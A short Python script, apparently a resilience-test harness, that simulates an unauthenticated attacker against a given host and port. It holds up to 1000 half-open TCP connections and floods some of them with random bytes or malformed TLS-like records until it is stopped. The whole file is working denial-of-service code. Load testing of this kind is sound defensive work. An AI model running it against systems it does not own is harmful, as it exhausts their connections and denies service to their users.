"""Somebody on the network without the secret, at HOST PORT: half-open connections, noise and a flood, until it is ended.

Prints a line for each round of it: how many connections stand at one time.
"""

from __future__ import annotations

import contextlib
import os
import resource
import socket
import sys
import time

HELD = 1000


def main(host: str, port: int) -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held: list[socket.socket] = []
    while True:
        for i in range(100):
            with contextlib.suppress(OSError):
                line = socket.create_connection((host, port), timeout=2.0)
                held.append(line)
                if i % 4 == 1:
                    line.sendall(os.urandom(500))
                elif i % 4 == 2:
                    line.sendall(b"\x16\x03\x01\x40\x00\x01\x00\xff\xff" + bytes(5000))
        while len(held) > HELD:
            held.pop(0).close()
        print(f"{len(held)} connections", flush=True)
        time.sleep(0.1)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
